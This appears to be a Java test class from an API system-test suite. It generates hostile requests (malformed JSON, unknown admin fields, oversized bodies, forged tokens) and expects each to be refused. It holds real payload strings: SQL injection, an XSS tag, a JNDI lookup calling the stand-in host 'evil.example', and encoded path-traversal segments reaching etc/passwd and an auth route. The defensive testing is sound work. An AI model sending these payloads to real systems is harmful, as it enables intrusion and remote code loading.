package com.misty.systemtest.hostile;

import com.fasterxml.jackson.databind.ObjectMapper;
import com.fasterxml.jackson.databind.node.ObjectNode;
import com.fasterxml.jackson.databind.util.RawValue;
import com.misty.systemtest.access.Call;
import com.misty.systemtest.access.Caller;
import com.misty.systemtest.access.Endpoint;
import com.misty.systemtest.access.Endpoint.Field;
import com.misty.systemtest.access.Endpoint.Kind;
import com.misty.systemtest.access.World;

import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.function.Function;
import java.util.function.Predicate;
import java.util.regex.Matcher;
import java.util.regex.Pattern;

/**
 * The kinds of hostile input, each turning one valid call of an endpoint into the requests that break it. All of
 * them must be refused with a 4xx problem+json (413 for the oversized body, 401 for forged tokens).
 */
enum Attack {

    MALFORMED_JSON("malformed JSON and wrong content types",
            Endpoint::hasBody) {
        @Override
        List<Probe> probes(Endpoint endpoint, Call call, World world) {
            List<Probe> probes = new ArrayList<>();
            for (String text : List.of("{\"", "{\"a\": 1,}", "not json", "[", "{'single': 'quotes'}", "{\"a\": tru}",
                    "{\"a\": 1} trailing", "{\"a\": NaN}")) {
                probes.add(Probe.body("body " + text, endpoint.method(), call.path(), text));
            }
            if (endpoint.bodyRequired()) {
                for (String text : List.of("", "null", "[]", "\"a string\"", "42")) {
                    probes.add(Probe.body("body '" + text + "'", endpoint.method(), call.path(), text));
                }
                String valid = json(call.body());
                probes.add(Probe.body("valid JSON as text/plain", endpoint.method(), call.path(), valid)
                        .withHeaders(Map.of("Content-Type", "text/plain")));
                probes.add(Probe.body("valid JSON as application/xml", endpoint.method(), call.path(), valid)
                        .withHeaders(Map.of("Content-Type", "application/xml")));
            }
            return probes;
        }
    },

    WRONG_TYPES("wrong types (objects, arrays, strings where others belong)",
            Endpoint::hasBody) {
        @Override
        List<Probe> probes(Endpoint endpoint, Call call, World world) {
            return eachFieldSetTo(endpoint, call, field -> wrongTypes(field.kind()));
        }
    },

    MISSING_FIELDS("missing and null required fields",
            Endpoint::bodyRequired) {
        @Override
        List<Probe> probes(Endpoint endpoint, Call call, World world) {
            List<Probe> probes = new ArrayList<>();
            probes.add(Probe.body("empty object", endpoint.method(), call.path(), "{}"));
            endpoint.fields().forEach((name, field) -> {
                if (field.required()) {
                    ObjectNode without = tree(call.body());
                    without.remove(name);
                    probes.add(Probe.body("without " + name, endpoint.method(), call.path(), json(without)));
                    probes.add(replaced(endpoint, call, name, "null"));
                }
            });
            return probes;
        }
    },

    UNKNOWN_FIELDS("extra (unknown) fields",
            Endpoint::hasBody) {
        @Override
        List<Probe> probes(Endpoint endpoint, Call call, World world) {
            List<Probe> probes = new ArrayList<>();
            for (String extra : List.of("\"is_admin\": true", "\"_id\": \"forged\"", "\"$where\": \"1 == 1\"",
                    "\"roles\": [\"admin\"]", "\"status\": \"APPROVED\"")) {
                String name = extra.substring(1, extra.indexOf('"', 1));
                if (endpoint.fields().containsKey(name)) {
                    continue;
                }
                ObjectNode body = tree(call.body());
                body.putRawValue(name, new RawValue(extra.substring(extra.indexOf(':') + 1).strip()));
                probes.add(Probe.body("plus " + extra, endpoint.method(), call.path(), json(body)));
            }
            return probes;
        }
    },

    HUGE_BODY("a body over 1 MiB",
            Endpoint::hasBody) {
        @Override
        List<Probe> probes(Endpoint endpoint, Call call, World world) {
            String body = "{\"padding\": \"" + "x".repeat(1_100_000) + "\"}";
            return List.of(Probe.body("1.1 MB body", endpoint.method(), call.path(), body).expecting(413));
        }
    },

    HUGE_STRINGS("100 kB strings in every string field",
            endpoint -> endpoint.fields().values().stream().anyMatch(f -> f.kind() == Kind.TEXT || f.kind() == Kind.CODE)) {
        @Override
        List<Probe> probes(Endpoint endpoint, Call call, World world) {
            String huge = "\"" + "A".repeat(100_000) + "\"";
            return eachFieldSetTo(endpoint, call,
                    field -> field.kind() == Kind.TEXT || field.kind() == Kind.CODE ? List.of(huge) : List.of());
        }
    },

    EXTREME_NUMBERS("negative, zero, fractional and enormous numbers",
            endpoint -> endpoint.fields().values().stream().anyMatch(f -> !extremeNumbers(f.kind()).isEmpty())) {
        @Override
        List<Probe> probes(Endpoint endpoint, Call call, World world) {
            return eachFieldSetTo(endpoint, call, field -> extremeNumbers(field.kind()));
        }
    },

    INJECTION_IN_CODES("injection-shaped and odd unicode strings in identifiers and closed values",
            endpoint -> endpoint.fields().values().stream().anyMatch(f -> f.kind() == Kind.CODE)) {
        @Override
        List<Probe> probes(Endpoint endpoint, Call call, World world) {
            return eachFieldSetTo(endpoint, call, field -> field.kind() == Kind.CODE ? HOSTILE_STRINGS : List.of());
        }
    },

    HOSTILE_IDS("injection-shaped, odd unicode and traversal ids in the path",
            Endpoint::hasId) {
        @Override
        List<Probe> probes(Endpoint endpoint, Call call, World world) {
            Matcher id = idPattern(endpoint).matcher(call.path());
            if (!id.matches()) {
                throw new IllegalStateException(call.path() + " does not fit " + endpoint.template());
            }
            String body = call.body() == null ? null : json(call.body());
            List<Probe> probes = new ArrayList<>();
            for (String segment : HOSTILE_SEGMENTS) {
                String path = id.group(1) + segment + id.group(3);
                Probe probe = Probe.body("id " + segment, endpoint.method(), path, body);
                // %2e%2e is "..": the gateway normalises it (RFC 3986) and checks the role on the result, so a read
                // that lands inside the caller's own area may answer as that path does.
                probes.add(segment.equals("%2e%2e") && endpoint.method().equals("GET") ? probe.harmlessIfNothingMatches() : probe);
            }
            // Literal ../ climbing to an area the attacker may not use (admins: to a file, which is no route).
            int depth = (int) id.group(1).chars().filter(c -> c == '/').count();
            String target = endpoint.attacker() == Caller.ADMIN ? "etc/passwd" : "api/auth/users";
            String climb = id.group(1) + "../".repeat(depth) + target;
            probes.add(Probe.body("id climbing with ../ to /" + target, endpoint.method(), climb, body));
            return probes;
        }
    },

    HOSTILE_QUERY("injection-shaped, odd unicode and out-of-range query values",
            endpoint -> "GET".equals(endpoint.method()) && endpoint.template().indexOf('{') < 0) {
        @Override
        List<Probe> probes(Endpoint endpoint, Call call, World world) {
            List<Probe> probes = new ArrayList<>();
            int question = call.path().indexOf('?');
            if (question < 0) {
                return probes;
            }
            String base = call.path().substring(0, question + 1);
            String[] params = call.path().substring(question + 1).split("&");
            for (int i = 0; i < params.length; i++) {
                String name = params[i].substring(0, params[i].indexOf('='));
                for (String value : HOSTILE_QUERY_VALUES) {
                    String[] changed = params.clone();
                    changed[i] = name + "=" + value;
                    probes.add(Probe.body(name + "=" + value, "GET", base + String.join("&", changed), null)
                            .harmlessIfNothingMatches());
                }
            }
            return probes;
        }
    },

    FORGED_TOKENS("forged, tampered, expired and wrong tokens",
            endpoint -> !endpoint.isOpen()) {
        @Override
        List<Probe> probes(Endpoint endpoint, Call call, World world) {
            String body = call.body() == null ? null : json(call.body());
            List<Probe> probes = new ArrayList<>();
            ForgedTokens.from(world.bearer(Caller.EMPLOYEE)).forEach((what, token) ->
                    probes.add(Probe.body(what, endpoint.method(), call.path(), body).withBearer(token).expecting(401)));
            probes.add(Probe.body("expired genuine token", endpoint.method(), call.path(), body)
                    .withBearer(world.expiredToken()).expecting(401));
            probes.add(Probe.body("refresh token as bearer", endpoint.method(), call.path(), body)
                    .withBearer(world.session(Caller.EMPLOYEE).refreshToken()).expecting(401));
            probes.add(Probe.body("no token", endpoint.method(), call.path(), body).withBearer("").expecting(401));
            return probes;
        }
    };

    /** Strings that must never be taken for an identifier or a closed value, nor break anything. */
    static final List<String> HOSTILE_STRINGS = List.of(
            "\"'; drop table users; --\"", "\"<script>alert(1)</script>\"", "\"${jndi:ldap://evil.example/a}\"",
            "\"a\\u0000b\"", "\"\\u202Eeyolpme\"", "\"\\ud800\"", "\"\\uFEFF\"", "\"💥\"");

    static final List<String> HOSTILE_SEGMENTS = List.of(
            "%27%3B%20drop%20table%20x%3B--", "%7B%22%24gt%22%3A%22%22%7D", "%3Cscript%3Ealert(1)%3C%2Fscript%3E",
            "%00", "%E2%80%AE", "%ED%A0%80", "%F0%9F%92%A5",
            "..%2F..%2F..%2Fauth%2Fusers", "%2e%2e%2f%2e%2e%2f%2e%2e%2fauth%2fusers", "..%252F..%252Fauth%252Fusers",
            "%2e%2e", "..;", "%5C..%5C..%5Cauth%5Cusers");

    static final List<String> HOSTILE_QUERY_VALUES = List.of(
            "%7B%22%24gt%22%3A%22%22%7D", "%27%3B--", "%00", "-1", "9223372036854775808", "1e308", "%ED%A0%80",
            "%3Cscript%3E");

    private static final ObjectMapper JSON = new ObjectMapper();

    private final String label;
    private final Predicate<Endpoint> target;

    Attack(String label, Predicate<Endpoint> target) {
        this.label = label;
        this.target = target;
    }

    String label() {
        return label;
    }

    /** Whether this attack has anything to send to {@code endpoint} (e.g. body attacks need a body). */
    boolean appliesTo(Endpoint endpoint) {
        return target.test(endpoint);
    }

    abstract List<Probe> probes(Endpoint endpoint, Call call, World world);

    /** Values of a certainly wrong JSON type for a field of {@code kind}. */
    static List<String> wrongTypes(Kind kind) {
        return switch (kind) {
            case TEXT, CODE -> List.of("{\"$gt\": \"\"}", "[\"a\"]");
            case COUNT, SIGNED, VERSION, DECIMAL -> List.of("\"abc\"", "{\"$gt\": 0}", "[1]");
            case DATE -> List.of("\"2031-02-30\"", "\"yesterday\"", "{\"$gt\": \"\"}");
            case BOOLEAN -> List.of("\"maybe\"", "{}", "[true]");
            case LIST -> List.of("\"x\"", "{\"$gt\": \"\"}", "[{\"$gt\": \"\"}]");
            case OBJECT -> List.of("\"x\"", "[1]", "{\"$gt\": \"\"}");
        };
    }

    /** Numbers a field of {@code kind} must refuse. */
    static List<String> extremeNumbers(Kind kind) {
        return switch (kind) {
            case COUNT -> List.of("-1", "0", "1.5", "1000000001", "1e308", "9223372036854775808", "-9223372036854775809");
            case SIGNED -> List.of("0", "1.5", "1000000001", "-1000000001", "1e308", "-1e308", "9223372036854775808");
            case VERSION -> List.of("-1", "1e308", "9223372036854775808", "-9223372036854775809", "999999999");
            case DECIMAL -> List.of("-1", "-0.01", "1e308", "-1e308", "1e-400", "9223372036854775808");
            default -> List.of();
        };
    }

    /** One probe per field and value: the valid call with that field set to each raw JSON value {@code values} names. */
    private static List<Probe> eachFieldSetTo(Endpoint endpoint, Call call, Function<Field, List<String>> values) {
        List<Probe> probes = new ArrayList<>();
        endpoint.fields().forEach((name, field) ->
                values.apply(field).forEach(raw -> probes.add(replaced(endpoint, call, name, raw))));
        return probes;
    }

    private static Probe replaced(Endpoint endpoint, Call call, String field, String raw) {
        ObjectNode body = tree(call.body());
        body.putRawValue(field, new RawValue(raw));
        String shown = raw.length() > 40 ? raw.substring(0, 20) + "…(" + raw.length() + " chars)" : raw;
        return Probe.body(field + " = " + shown, endpoint.method(), call.path(), json(body));
    }

    private static Pattern idPattern(Endpoint endpoint) {
        int at = endpoint.template().indexOf("{id}");
        String before = endpoint.template().substring(0, at);
        String after = endpoint.template().substring(at + 4);
        return Pattern.compile("(" + Pattern.quote(before) + ")([^/?]+)(" + Pattern.quote(after) + "(?:\\?.*)?)");
    }

    static ObjectNode tree(Map<String, Object> body) {
        return body == null ? JSON.createObjectNode() : JSON.valueToTree(body);
    }

    static String json(Object body) {
        try {
            return JSON.writeValueAsString(body);
        } catch (com.fasterxml.jackson.core.JsonProcessingException e) {
            throw new IllegalArgumentException(e);
        }
    }
}
